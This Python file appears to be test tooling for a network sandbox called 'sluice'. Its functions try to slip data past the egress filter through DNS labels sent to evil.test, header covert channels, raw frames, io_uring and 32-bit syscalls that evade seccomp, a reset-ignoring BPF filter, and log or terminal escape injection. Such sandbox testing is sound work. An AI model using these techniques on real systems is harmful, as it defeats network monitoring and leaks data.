# SPDX-License-Identifier: GPL-3.0-or-later
"""Sockets that near.py has not: each sends its word and does not wait for an answer longer than it must.  send.py COMMAND ARGUMENT..."""
import array
import ctypes
import errno
import mmap
import os
import socket
import struct
import sys
import time


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def datagram(address, kind=socket.SOCK_DGRAM, protocol=0):
    sock = socket.socket(family(address), kind, protocol)
    sock.settimeout(0.3)
    return sock


def wait(sock):
    try:
        print(sock.recv(4096)[:80])
    except OSError as error:
        print(error)


def udp(address, port, word, size=0):
    sock = datagram(address)
    sock.connect((address, int(port)))
    sock.send(word.encode().ljust(int(size), b"x") if not size else b"x" * (int(size) - len(word)) + word.encode())
    wait(sock)


def udplite(address, port, word):
    sock = datagram(address, protocol=136)
    sock.sendto(word.encode(), (address, int(port)))


def ping(address, word):
    six = ":" in address
    sock = datagram(address, protocol=58 if six else 1)
    sock.sendto(struct.pack(">BBHHH", 128 if six else 8, 0, 0, 0, 1) + word.encode(), (address, 0))
    wait(sock)


def fastopen(address, port, word):
    sock = socket.socket()
    sock.settimeout(0.5)
    sock.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
    sock.sendto(word.encode(), 0x20000000, (address, int(port)))
    wait(sock)


def stream(address, port, word):
    """Connects, sends the word, prints the answer."""
    sock = socket.socket(family(address))
    sock.settimeout(20)
    sock.connect((address, int(port)))
    sock.settimeout(1)
    sock.sendall(word.encode() + b"\r\n")
    wait(sock)


def local(path, word):
    """The word to a unix socket; "@name" is an abstract one."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(10)
    sock.connect(path.replace("@", "\0", 1) if path[0] == "@" else path)
    sock.sendall(word.encode())
    wait(sock)


def local_tries(word, *paths):
    """The word to each of these unix sockets, for two seconds: as soon as one is there that can be reached."""
    for _ in range(20):
        for path in paths:
            try:
                local(path, word)
            except OSError as error:
                print(path, error)
        time.sleep(0.1)


def bind(path):
    """A listener there that all users may call, in the place of one that was ended."""
    sock = socket.socket(socket.AF_UNIX)
    if path[0] != "@" and os.path.lexists(path):
        os.unlink(path)
    sock.bind(path.replace("@", "\0", 1) if path[0] == "@" else path)
    if path[0] != "@":
        os.chmod(path, 0o666)
    sock.listen(5)
    return sock


def serve_engine(sock, address, port):
    conn = sock.accept()[0]
    socket.socket(family(address), socket.SOCK_DGRAM).sendto(conn.recv(4096), (address, int(port)))
    conn.sendall(b"done")
    conn.close()


def engine(path, address, port):
    """A daemon outside of the job that sends on what it is told: a container engine, D-Bus, a resolver's socket."""
    sock = bind(path)
    print("listening", flush=True)
    sock.settimeout(600)
    while True:
        serve_engine(sock, address, port)


def engine_again(path, address, port):
    """The same, which starts again five times a second, for 20."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        sock = bind(path)
        print("listening", flush=True)
        sock.settimeout(0.2)
        try:
            serve_engine(sock, address, port)
        except TimeoutError:
            pass
        sock.close()


def serve(port, word):
    """Answers one call with the word."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", int(port)))
    sock.listen(1)
    sock.settimeout(20)
    print("listening", flush=True)
    conn = sock.accept()[0]
    conn.sendall(word.encode() + b"\n")
    time.sleep(0.1)


def together(port, address, peer_port, word):
    """Both sides connect at once: tries for a while."""
    end = time.monotonic() + 5
    while time.monotonic() < end:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.settimeout(2)
        sock.bind(("", int(port)))
        try:
            sock.connect((address, int(peer_port)))
            sock.sendall(word.encode())
            wait(sock)
            return
        except OSError:
            sock.close()
            time.sleep(0.02)


def later(address, port, word, go):
    """Connects now; sends the word when the file `go` is there."""
    sock = socket.socket(family(address))
    sock.settimeout(20)
    sock.connect((address, int(port)))
    sock.settimeout(1)
    print("connected", flush=True)
    end = time.monotonic() + 900
    while not os.path.exists(go) and time.monotonic() < end:
        time.sleep(0.05)
    try:
        sock.sendall(word.encode())
        wait(sock)
    except OSError as error:
        print(error)
    print("done", flush=True)


def flood(address, port, word, count):
    socks = [datagram(address) for _ in range(40)]
    for sock in socks:
        sock.setblocking(False)
    for i in range(int(count)):
        try:
            socks[i % 40].sendto(word.encode(), (address, int(port)))
        except OSError:
            pass


def double_fork(address, port, word):
    """A daemon: its own session, its parents gone."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 3)
    time.sleep(0.2)
    sock = datagram(address)
    for _ in range(5):
        try:
            sock.sendto(word.encode(), (address, int(port)))
        except OSError:
            pass
        time.sleep(0.05)


def group(address, port, word, *interface):
    """Multicast or broadcast."""
    sock = datagram(address)
    if ":" in address:
        index = socket.if_nametoindex(next(name for _, name in socket.if_nameindex() if name != "lo"))
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        sock.sendto(word.encode(), (address, int(port), 0, index))
        return
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.sendto(word.encode(), (address, int(port)))


def marks(address, port, word):
    """Every mark that a gate might take for its own, also on a socket of each."""
    for mark in [1 << i for i in range(32)] + [0xFFFFFFFF, 0x3FFF, 0xFF0000] + list(range(3, 16)) + [0x3FFC + i for i in range(4)]:
        sock = datagram(address)
        sock.setsockopt(socket.SOL_SOCKET, 36, struct.pack("I", mark))
        try:
            sock.sendto(word.encode(), (address, int(port)))
        except OSError:
            pass
        sock.close()


class Mmsg(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.c_void_p), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("pad", ctypes.c_int),
                ("len", ctypes.c_uint)]


def sendmmsg(first, first_port, address, port, word):
    """One call, several datagrams: to an allowed place, then elsewhere."""
    socket.getaddrinfo("mirror.test", 9123, socket.AF_INET)
    sock, text, keep = datagram(address), word.encode(), []
    vector = (Mmsg * 3)()
    for i, (to, at) in enumerate(((first, first_port), (address, port), (address, port))):
        body = b"first" if i == 0 else text
        name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack(">H", int(at)) + socket.inet_aton(to) + bytes(8))
        data = ctypes.create_string_buffer(body)
        iov = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(body))
        keep += [name, data, iov]
        vector[i].name, vector[i].namelen, vector[i].iov, vector[i].iovlen = ctypes.addressof(name), 16, ctypes.addressof(iov), 1
    libc = ctypes.CDLL(None, use_errno=True)
    for start in 0, 1:
        print(libc.sendmmsg(sock.fileno(), ctypes.byref(vector[start]), 3 - start, 0), errno.errorcode.get(ctypes.get_errno()))


def question(name, ident=7):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack(">HHHHHH", ident, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def segmented(server, word):
    """UDP_SEGMENT: one send, two datagrams; the first asks an allowed name, the second, as long, another."""
    evil = word + ".evil.test"
    first = "x" * (len(evil) - 10) + ".wild.test"
    sock = datagram(server)
    sock.connect((server, 53))
    sock.setsockopt(socket.SOL_UDP, 103, len(question(evil)))  # UDP_SEGMENT
    sock.send(question(first) + question(evil, 8))
    wait(sock)


def ask(server, name):
    sock = datagram(server)
    sock.connect((server, 53))
    sock.send(question(name))
    wait(sock)


def label(server, word):
    """Labels that a terminal would obey, or a log would split at."""
    sock = datagram(server)
    for text in b"\x1b[2J\nsluice: allow " + word.encode(), b"\"}\n{\"word\":\"" + word.encode(), bytes(range(1, 32)) + word.encode():
        sock.sendto(struct.pack(">HHHHHH", 9, 256, 1, 0, 0, 0) + bytes([len(text)]) + text + b"\4evil\4test\0\0\1\0\1", (server, 53))


def covert(address, port, sport):
    """Words in the header: datagrams and a SYN from one port."""
    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
        sock = datagram(address, kind)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", int(sport)))
        for word in b"word":
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, word)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, word)
            try:
                sock.sendto(b"x", (address, int(port))) if kind == socket.SOCK_DGRAM else sock.connect((address, int(port)))
            except OSError as error:
                print(error)


def frame(address, port, word, gateway, me=None):
    """A frame by packet socket: it does not go through the output hook of its own namespace."""
    import raw

    index, name = next((i, n) for i, n in socket.if_nameindex() if n != "lo")
    mac = interface(0x8927, name)[18:24].hex()  # SIOCGIFHWADDR
    me = me or socket.inet_ntoa(interface(0x8915, name)[20:24])  # SIOCGIFADDR
    if name != "c0":  # under `sluice run`: the other end of its own link
        gateway = "ff:ff:ff:ff:ff:ff"
        for line in open("/proc/net/arp", encoding="ascii").readlines()[1:]:
            gateway = line.split()[3]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((name, 0))
    head = bytes.fromhex((gateway + mac).replace(":", ""))
    sock.send(head + b"\x08\0" + raw.ip4(address, 17, raw.udp(address, int(port), word.encode(), src=me), src=me))
    print("frame by", name, index, me, gateway)


def interface(request, name):
    import fcntl

    return fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), request, struct.pack("256s", name.encode()))


def vsock(cid, word):
    sock = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    sock.settimeout(1)
    sock.connect((int(cid), 7072))
    sock.sendall(word.encode())
    wait(sock)


def passed(path, word):
    """A socket that somebody outside made, over a unix socket."""
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(path)
    descriptor = array.array("i", bytes(4))
    _, control, _, _ = sock.recvmsg(10, 100)
    descriptor.frombytes(control[0][2][:4])
    os.write(descriptor[1], word.encode())


def pass_on(path, address, port):
    """Makes a socket toward the attacker and gives it to whoever calls."""
    listener = socket.socket(socket.AF_UNIX)
    if os.path.exists(path):
        os.unlink(path)
    listener.bind(path)
    os.chmod(path, 0o666)
    listener.listen(1)
    listener.settimeout(60)
    print("listening", flush=True)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((address, int(port)))
    conn = listener.accept()[0]
    conn.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sock.fileno()]))])


def device(address, port, word):
    name = next(n for _, n in socket.if_nameindex() if n != "lo")
    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
        sock = datagram(address, kind)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode() + b"\0")
        sock.connect((address, int(port)))
        sock.send(word.encode())
        wait(sock)


def member(word):
    """The last eight digits of the word as the source of a group (IP_ADD_SOURCE_MEMBERSHIP): the kernel reports it to the link."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name = next(n for _, n in socket.if_nameindex() if n != "lo")
    own = interface(0x8915, name)[20:24]
    sock.setsockopt(socket.IPPROTO_IP, 39, socket.inet_aton("232.1.1.1") + own + bytes.fromhex(word[-8:]))
    time.sleep(0.8)


def member32(word):
    """The same by a 32-bit program's call (socketcall by int 0x80), whose arguments lie behind a pointer that no filter follows."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name = next(n for _, n in socket.if_nameindex() if n != "lo")
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # MAP_32BIT
    at = ctypes.addressof(ctypes.c_char.from_buffer(low))
    low[0:14] = bytes.fromhex("53 b866000000 89fb 89f1 cd80 5b c3")  # push rbx; mov eax, 102; ebx, edi; ecx, esi; int 0x80; pop rbx; ret
    low[256:268] = socket.inet_aton("232.1.1.1") + interface(0x8915, name)[20:24] + bytes.fromhex(word[-8:])
    low[512:532] = struct.pack("5I", sock.fileno(), socket.IPPROTO_IP, 39, at + 256, 12)
    print(ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(at)(14, at + 512))
    time.sleep(0.8)


def keys(word):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(249, b"dns_resolver", word.encode() + b".evil.test", b"", -3)  # request_key
    print("not there" if ctypes.get_errno() == errno.ENOSYS else "made")


def then_elsewhere(word):
    """One unconnected socket, one port: what was approved for its first datagram says nothing of the second."""
    to = socket.getaddrinfo("mirror.test", 9123, socket.AF_INET)[0][4]
    sock = datagram("198.18.2.81")
    sock.sendto(b"allowed", to)
    wait(sock)
    for _ in range(3):
        sock.sendto(word.encode(), ("198.18.3.66", 9999))


def after(word):
    """Requests for the allowed name, then one for another, which the kernel keeps back for two seconds and more (SO_MAX_PACING_RATE,
    which begins with the tenth segment); the process ends at once.  Bound to its interface, the socket is not found by its addresses."""
    interface = next(name for _, name in socket.if_nameindex() if name != "lo")
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode() + b"\0")
    sock.connect((socket.getaddrinfo("allowed.test", 80, socket.AF_INET)[0][4][0], 80))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for turn in range(15):
        if turn == 14:
            sock.setsockopt(socket.SOL_SOCKET, 47, 40)
        sock.send(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        sock.recv(4096)
    sock.send(f"GET /{word} HTTP/1.1\r\nHost: other.test\r\n\r\n".encode())


def deaf(word):
    """A request for another name on a connection that does not heed resets (SO_ATTACH_FILTER); the process ends, its socket goes on."""
    sock = socket.create_connection(socket.getaddrinfo("allowed.test", 80, socket.AF_INET)[0][4])
    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *line) for line in (
        (0x30, 0, 0, 13), (0x45, 0, 1, 4), (6, 0, 0, 0), (6, 0, 0, 0xFFFFFFFF))))  # flags & RST: 0 bytes of it
    sock.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxP", 4, ctypes.addressof(code)))
    sock.send(f"GET /{word} HTTP/1.1\r\nHost: other.test\r\n\r\n".encode())


def uring(address, port, word):
    """Socket, connect and send by io_uring, not by system calls that a filter could see."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 8, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    sq = struct.unpack("10I", parameters[40:80])  # head, tail, mask, entries, flags, dropped, array
    cq = struct.unpack("10I", parameters[80:120])  # head, tail, mask, entries, overflow, cqes
    rings = libc.mmap(None, 4096, 3, 0x8001, ring, 0)
    entries = libc.mmap(None, 4096, 3, 0x8001, ring, 0x10000000)
    word_at = lambda at: ctypes.c_uint32.from_address(rings + at)  # noqa: E731
    name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton(address) + bytes(8))
    text = ctypes.create_string_buffer(word.encode())

    def submit(opcode, descriptor, offset, address_of, length):
        tail = word_at(sq[1]).value
        ctypes.memset(entries, 0, 64)
        ctypes.memmove(entries, struct.pack("<BBHiQQI", opcode, 0, 0, descriptor, offset, address_of, length), 28)
        word_at(sq[6] + 4 * (tail & word_at(sq[2]).value)).value = 0
        word_at(sq[1]).value = tail + 1
        libc.syscall(426, ring, 1, 1, 1, None, 0)
        done = rings + cq[5] + 16 * (word_at(cq[0]).value & word_at(cq[2]).value)
        word_at(cq[0]).value += 1
        return ctypes.c_int32.from_address(done + 8).value

    sock = submit(45, socket.AF_INET, socket.SOCK_DGRAM, 0, 0)  # IORING_OP_SOCKET
    print("socket", sock, "connect", submit(16, sock, 16, ctypes.addressof(name), 0), "send", submit(26, sock, 0, ctypes.addressof(text), len(word)))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
